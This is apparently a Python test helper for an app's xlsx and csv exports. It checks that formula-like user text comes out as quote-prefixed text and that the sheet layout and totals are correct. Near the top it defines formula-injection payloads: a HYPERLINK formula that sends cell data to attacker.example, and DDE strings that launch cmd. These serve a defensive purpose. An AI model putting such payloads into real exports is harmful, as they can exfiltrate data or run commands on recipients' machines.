"""Reading downloads back in tests: the streamed bytes, the xlsx cells, the csv rows, and the checks
that formula-like text came out as text (DESIGN §16)."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from asgiref.sync import async_to_sync
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

# A check-out note typed on the phone (issue "[1/7] Trust before deployment", finding 2).
HOSTILE_NOTE = '=HYPERLINK("http://attacker.example/?x="&A2,"Klik")'
# One of each other prefix a spreadsheet reads as the start of a formula.
HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_TEXT = "+1+cmd|' /C notepad'!A0"
HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0"
# A date or a clock time/duration written as text (what HR cannot compute with).
ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}|\d{2}/\d{2}/\d{4}")
CLOCK = re.compile(r"\d{1,3}[:.]\d{2}(?:[:.]\d{2})?")


def downloaded(response: Any) -> bytes:
    """The bytes of a streamed (async iterator) or plain response."""
    if not getattr(response, "streaming", False):
        return bytes(response.content)

    async def collect() -> bytes:
        return b"".join([chunk async for chunk in response.streaming_content])

    return async_to_sync(collect)()


def xlsx_cells(content: bytes) -> list[Cell]:
    """Every cell of every sheet."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]


def assert_xlsx_text(content: bytes, *values: str) -> None:
    """No formula anywhere but the app's own totals (SUBTOTAL over a column's data rows); each value is
    in the file, unchanged, as a quote-prefixed string cell."""
    cells = xlsx_cells(content)
    formulas = [
        (cell.coordinate, cell.value)
        for cell in cells
        if cell.data_type == "f" and not SUBTOTAL_FORMULA.fullmatch(str(cell.value))
    ]
    assert formulas == []
    for value in values:
        found = [cell for cell in cells if cell.value == value]
        assert found, f"{value!r} is not in the file"
        assert [(cell.data_type, cell.quotePrefix) for cell in found] == [("s", True)] * len(found)


def assert_csv_text(content: bytes, *values: str) -> None:
    """Each value is in the file behind a `'`, never bare."""
    cells = csv_cells(content)
    for value in values:
        assert "'" + value in cells, f"{value!r} is not in the file as text"
        assert value not in cells


def xlsx_rows(content: bytes) -> list[list[Cell]]:
    """The cells of the first sheet, row by row (with their data type and number format)."""
    book = load_workbook(io.BytesIO(content))
    return [list(row) for row in book.worksheets[0].iter_rows()]


def assert_no_internal_text(content: bytes) -> None:
    """DESIGN §18: no internal API path and no date, time or number written as text in an xlsx."""
    texts = [cell.value for cell in xlsx_cells(content) if isinstance(cell.value, str)]
    assert not [text for text in texts if "/api/" in text or "/media/" in text]
    assert not [text for text in texts if ISO_DATE.fullmatch(text) or CLOCK.fullmatch(text)]


SUBTOTAL_FORMULA = re.compile(r"=SUBTOTAL\(109,([A-Z]+)(\d+):\1(\d+)\)")


class ExportSheet:
    """An export's one sheet read back in its layout (server.core.spreadsheets, DESIGN §21): the title
    block (its first line, then label -> value), the header row, the data rows, the totals row, the
    frozen cell and the filter's range. The reader checks the layout as it goes: the sheet is 'Sheet',
    the header is frozen under it and the filter spans exactly the header and the data rows."""

    def __init__(self, content: bytes) -> None:
        book = load_workbook(io.BytesIO(content))
        assert book.sheetnames == ["Sheet"]
        worksheet = book["Sheet"]
        self.worksheet = worksheet
        rows = [list(row) for row in worksheet.iter_rows(values_only=True)]
        blank = rows.index([None] * len(rows[0])) if [None] * len(rows[0]) in rows else None
        assert blank is not None, "no empty row under the title block"
        self.title = rows[0][0]
        self.title_lines: dict[str, Any] = {row[0]: row[1] for row in rows[1:blank]}
        self.header_row = blank + 2  # 1-based
        width = len([value for value in rows[blank + 1] if value is not None])
        self.header = rows[blank + 1][:width]
        rest = [row[:width] for row in rows[blank + 2 :]]
        end = rest.index([None] * width) if [None] * width in rest else len(rest)
        self.data = rest[:end]
        self.totals = rest[end + 1] if end + 1 < len(rest) else None
        self.freeze_panes = worksheet.freeze_panes
        self.filter_ref = worksheet.auto_filter.ref
        assert self.freeze_panes == f"A{self.header_row + 1}"
        last = self.header_row + len(self.data)
        assert self.filter_ref == f"A{self.header_row}:{worksheet.cell(1, width).column_letter}{last}"

    def column(self, label: str) -> list[Any]:
        """The data cells of the column titled `label`."""
        index = self.header.index(label)
        return [row[index] for row in self.data]

    def total(self, label: str) -> tuple[str, int, int] | None:
        """The totals row's formula of the column titled `label` as (column, first row, last row),
        after checking it is SUBTOTAL(109, …) over exactly the data rows."""
        assert self.totals is not None
        index = self.header.index(label)
        formula = self.totals[index]
        if formula is None or (index == 0 and formula == "Total"):
            return None
        match = SUBTOTAL_FORMULA.fullmatch(formula)
        assert match, formula
        first, last = int(match[2]), int(match[3])
        assert (first, last) == (self.header_row + 1, self.header_row + len(self.data))
        return match[1], first, last


def export_sheet(content: bytes) -> ExportSheet:
    return ExportSheet(content)
